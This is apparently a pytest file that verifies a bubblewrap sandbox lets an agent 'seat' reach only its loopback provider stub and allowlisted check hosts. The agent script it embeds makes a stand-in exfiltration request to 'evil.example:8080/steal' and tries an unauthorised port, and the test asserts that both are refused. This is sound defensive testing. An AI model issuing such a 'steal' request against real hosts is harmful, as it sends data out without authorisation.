"""Egress under the real jail: a seat reaches its provider and nothing else, and says so.

A provider stub of the test's own listens on the host's loopback (an HTTP server that answers
one request); a seat's base URL names it. Everything else the seat tries is refused.
"""

from __future__ import annotations

import http.server
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from budget_helpers import seat_context
from magi.agents.registry import build_agent
from magi.model.config import Config, Sandbox
from magi.sandbox.bwrap import decide
from magi.sandbox.shell import run_checks
from magi.seats.ask import ask
from magi.seats.jailing import seat_jail

JAIL = decide(Sandbox())
pytestmark = pytest.mark.skipif(not JAIL.jailed, reason=f"no usable bubblewrap: {JAIL.reason}")

REPLY = b"stub provider says hi"

# The agent: its provider (the base URL), a host the allowlist does not hold (through the
# proxy the environment names), and a loopback port nobody allowed (straight at it).
AGENT = """
import os, socket, sys, urllib.error, urllib.request
print(urllib.request.urlopen(os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages").read().decode())
try:
    urllib.request.urlopen("http://evil.example:8080/steal")
    print("evil: reached")
except urllib.error.HTTPError as e:
    print("evil:", e.code)
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
    print("other: reached")
except OSError as e:
    print("other: failed", type(e).__name__)
"""


class _Stub:
    """An HTTP server on loopback that answers one request; what it was asked, kept."""

    def __init__(self) -> None:
        seen = self.seen = []  # type: list[str]

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", str(len(REPLY)))
                self.end_headers()
                self.wfile.write(REPLY)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.handle_request, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.server_close()


@pytest.fixture
def stub() -> Iterator[_Stub]:
    s = _Stub()
    yield s
    s.close()


@pytest.fixture
def other() -> Iterator[socket.socket]:
    """A loopback port that listens on the host: no seat was given it."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(1)
    yield sock
    sock.close()


def _config(agent: dict[str, object], **more: object) -> Config:
    return Config.model_validate({"agents": [agent], "sandbox": {"mode": "bwrap"}, **more})


def test_a_seat_reaches_its_provider_and_nothing_else(
    tmp_path: Path, stub: _Stub, other: socket.socket
) -> None:
    script = tmp_path / "agent" / "agent.py"
    script.parent.mkdir()
    script.write_text(AGENT)
    port = other.getsockname()[1]
    base = f"http://127.0.0.1:{stub.port}"
    agent = {
        "id": "a",
        "kind": "command",
        "command": [sys.executable, str(script), str(port)],
        "env": {"ANTHROPIC_BASE_URL": base},
    }
    cfg = _config(agent)
    tree = tmp_path / "tree"
    tree.mkdir()
    sctx = seat_context(tmp_path / "home", cfg, {"a": build_agent(cfg.agents[0])})
    result = ask(sctx, seat="impl-A", node="implement", prompt="go", cwd=tree, allow_write=True)
    assert result.error is None, result.raw_stderr
    assert REPLY.decode() in result.text
    assert stub.seen == ["/v1/messages"]
    assert "evil: 403" in result.text
    assert "other: failed ConnectionRefusedError" in result.text
    other.settimeout(0)
    with pytest.raises(BlockingIOError):
        other.accept()  # nothing reached the host's other port
    turn = sctx.record.turns[-1]
    assert turn.refused == ["evil.example:8080"]
    assert any("egress refused evil.example:8080" in e.message for e in sctx.record.events)


# A test of the candidate's that asks a server on loopback for something and reads it.
CHECK = (
    f"{sys.executable} -c 'import sys, urllib.request; "
    'print(urllib.request.urlopen(sys.argv[1] + "/check", timeout=10).read())\' {base}'
)


@pytest.mark.parametrize("allowed", [False, True])
def test_a_check_command_reaches_only_what_verify_egress_allows(
    tmp_path: Path, stub: _Stub, allowed: bool
) -> None:
    more = {"verify": {"egress": [f"127.0.0.1:{stub.port}"]}} if allowed else {}
    agent = {"id": "a", "kind": "command", "command": ["true"]}
    cfg = _config(agent, **more)
    tree = tmp_path / "tree"
    tree.mkdir()
    sctx = seat_context(tmp_path / "home", cfg, {})
    jail = seat_jail(sctx, "", tree, True)
    assert jail is not None
    done = run_checks(
        [CHECK.format(base=f"http://127.0.0.1:{stub.port}")],
        cwd=tree,
        timeout=60,
        environ={"PATH": "/usr/bin:/bin"},
        output_max_bytes=65536,
        jail=jail,
    )
    assert done.passed is allowed, done.tail
    if allowed:
        assert stub.seen == ["/check"]
        assert REPLY.decode() in done.tail
    else:
        assert "Connection refused" in done.tail
        assert stub.seen == []
